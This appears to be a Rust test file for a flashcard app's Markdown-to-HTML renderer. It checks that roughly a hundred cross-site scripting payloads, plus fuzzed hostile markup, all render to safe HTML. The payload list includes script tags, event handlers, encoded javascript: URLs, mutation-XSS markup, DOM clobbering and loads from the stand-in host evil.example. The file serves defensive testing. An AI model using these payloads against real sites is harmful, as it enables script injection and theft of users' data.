//! What attackers try, and what chance finds.

use proptest::prelude::*;
use yiji::html::Side;

use crate::{browser, render};

const SIDES: [Side; 4] = [Side::Question, Side::Rung, Side::Answer, Side::Prose];

/// The usual ways in, one each: elements, handlers, schemes and their disguises, broken markup, other languages'
/// parsers, Markdown's own ways to write an address, and clobbering of the page's names.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script/x>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src=`x` onerror=`alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=javascript:alert(1)>",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<td style=\"text-align:center;background:url(https://evil.example)\">x</td>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example><input name=a></form>",
    "<select><option onclick=alert(1)>x</select>",
    "<textarea></textarea><script>alert(1)</script>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java\0script:alert(1)\">x</a>",
    "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118ascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=blob:https://evil.example/1>x</a>",
    "<a target=_blank rel=opener href=https://evil.example ping=https://evil.example>x</a>",
    "<a id=deck name=deck>x</a><div id=words>{}</div>",
    "<img name=getElementById><form id=document></form>",
    "<div data-act=grade data-slot=question class=card>x</div>",
    "<article id=c-1><h2 data-part=question>x</h2></article>",
    "</div></article></main><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!---><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<table><script>alert(1)</script><tr><td onclick=alert(1)>x",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<b <script>alert(1)</script>0",
    "<x onclick=alert(1)>x</x>",
    "<x-foo onclick=alert(1)>x</x-foo>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example '\"onmouseover=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x\" onerror=\"alert(1)](https://a.example/x.png)",
    "![x](https://a.example/x.png '\" onerror=\"alert(1)')",
    "![<script>alert(1)</script>](https://a.example/x.png)",
    "<javascript:alert(1)>",
    "<javascript://a%0Aalert(1)>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x\" onclick=\"alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> | \" onclick=\"x |\n|---|---|\n| a | b |",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
    "- [x] <input onclick=alert(1)>",
    "<details>\n\n[x](javascript:alert(1))\n\n</details>",
    "*<script*>alert(1)*</script*>",
];

#[test]
fn attacks_do_nothing() {
    assert!(ATTACKS.len() > 60);
    for attack in ATTACKS {
        for side in SIDES {
            browser::assert_safe(attack, &render(side, attack).html);
        }
    }
}

/// Attacks broken up by other attacks.
#[test]
fn attacks_do_nothing_together() {
    for pair in ATTACKS.windows(2) {
        for between in ["", "\n", "\n\n", "<b>", "\">", "'>", "-->", "`"] {
            let markdown = format!("{}{between}{}", pair[0], pair[1]);
            browser::assert_safe(&markdown, &render(Side::Answer, &markdown).html);
        }
    }
}

/// Text built of what parsers stumble over.
fn hostile() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "<",
        ">",
        "\"",
        "'",
        "/",
        "=",
        " ",
        "\n",
        "\n\n",
        "&",
        "&lt;",
        "&#",
        ";",
        "`",
        "```",
        "[",
        "]",
        "(",
        ")",
        "!",
        "*",
        "_",
        "~~",
        "|",
        "|-|",
        "#",
        "- ",
        "1. ",
        "    ",
        "> ",
        "\\",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?",
        "script",
        "style",
        "svg",
        "math",
        "img",
        "a",
        "table",
        "td",
        "p",
        "pre",
        "details",
        "h1",
        "iframe",
        "href",
        "src",
        "onerror",
        "onclick",
        "id",
        "class",
        "javascript:",
        "data:",
        "https://",
        "alert(1)",
        "</",
        "/>",
        "<br>",
        "[^1]",
        "[^1]: ",
        "中",
        "。",
        "\0",
        "\t",
        "\u{a0}",
        "\u{feff}",
        "\r",
        "😀",
    ]);
    prop::collection::vec(pieces, 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 500, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_text_gives_safe_html(markdown in "\\PC*", side in prop::sample::select(SIDES.to_vec())) {
        browser::assert_safe(&markdown, &render(side, &markdown).html);
    }

    #[test]
    fn any_broken_markup_gives_safe_html(markdown in hostile(), side in prop::sample::select(SIDES.to_vec())) {
        browser::assert_safe(&markdown, &render(side, &markdown).html);
    }
}
